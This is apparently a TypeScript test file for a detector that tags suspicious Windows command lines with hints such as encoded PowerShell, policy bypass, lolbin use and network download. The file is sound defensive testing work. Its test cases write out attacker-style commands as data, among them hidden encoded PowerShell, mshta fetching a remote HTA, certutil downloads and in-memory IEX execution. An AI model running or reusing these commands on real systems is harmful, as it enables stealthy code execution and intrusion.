import { describe, expect, test } from "vitest";
import { commandHints } from "../../../src/task/hints.ts";
import { unwrapCommand } from "../../../src/task/unwrap.ts";

const hints = (command: string): string[] => {
  const { layers } = unwrapCommand(command);
  return commandHints([command, ...layers.map(({ text }) => text)]).map(
    ({ hint }) => hint,
  );
};

describe("worked examples", () => {
  test.each<[string, string[]]>([
    [
      String.raw`cmd.exe /C whoami > %windir%\Temp\aB.tmp 2>&1`,
      ["output-to-temp", "user-writable-path"],
    ],
    [
      'cmd /c start /min "" powershell -w hidden -e VwByAGkAdABlAC0ASABvAHMAdAAgADEA',
      ["encoded-powershell", "hidden-window"],
    ],
    [String.raw`powershell -ex bypass -file c:\a.ps1`, ["policy-bypass"]],
    [
      String.raw`rundll32.exe C:\ProgramData\k.dll,#1`,
      ["lolbin", "user-writable-path"],
    ],
    ["mshta http://192.0.2.7/a.hta", ["network-download", "lolbin"]],
  ])("%s", (command, expected) => {
    expect(hints(command)).toEqual(expected);
  });
});

describe("each hint", () => {
  test.each<[string, string[]]>([
    ["powershell -w 1 x", ["hidden-window"]],
    ["powershell -WindowStyle h x", ["hidden-window"]],
    ["ping -w 1 x", []],
    ["powershell -ep unrestricted x", ["policy-bypass"]],
    ["powershell -e x", []],
    ["powershell IEX $x", ["in-memory-code"]],
    ["powershell I`E`X $x", ["in-memory-code"]],
    ["x [Convert]::FromBase64String($y)", ["in-memory-code"]],
    ["x (New-Object Net.WebClient).DownloadString($u)", ["network-download"]],
    ["curl -o x y", ["network-download"]],
    ["curling x", []],
    ["certutil -f -urlcache x", ["network-download", "lolbin"]],
    ["x (gp HKCU:\\Software\\x).y", ["registry-payload"]],
    ["x gp y", []],
    ["C:\\Windows\\System32\\regsvr32.exe /s x", ["lolbin"]],
    ["myrundll32.exe x", []],
    ["x hh-tool", []],
    ['x > "C:\\a b\\Temp\\y"', ["output-to-temp"]],
    ["x > %TEMP%\\y", ["output-to-temp", "user-writable-path"]],
    ["C:\\Users\\Public\\a.exe", ["user-writable-path"]],
    ["%APPDATA%\\a.exe", ["user-writable-path"]],
    ["x $env:APPDATA", ["user-writable-path"]],
    ["\\\\h1\\share\\a.exe", ["unc-path"]],
    ["\\\\?\\C:\\a.exe", []],
    ["C:\\\\a\\b.exe", []],
    [
      "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy12\\a.exe",
      ["shadow-copy-path"],
    ],
    ["notepad.exe", []],
    ["", []],
  ])("%s", (command, expected) => {
    expect(hints(command)).toEqual(expected);
  });
});

test("each names its reason and the piece it rests on", () => {
  expect(commandHints(["notepad", "mshta http://192.0.2.7/a.hta"])).toEqual([
    {
      hint: "network-download",
      reason: "fetches from the network",
      matched: "http://192.0.2.7/a.hta",
    },
    {
      hint: "lolbin",
      reason: "a program of the system that often starts other code",
      matched: "mshta",
    },
  ]);
});

test("a piece holds no secret", () => {
  const found = commandHints(["schtasks /rp >pw\\temp\\x /tn y > c:\\temp\\z"]);
  expect(JSON.stringify(found)).not.toContain("pw");
});
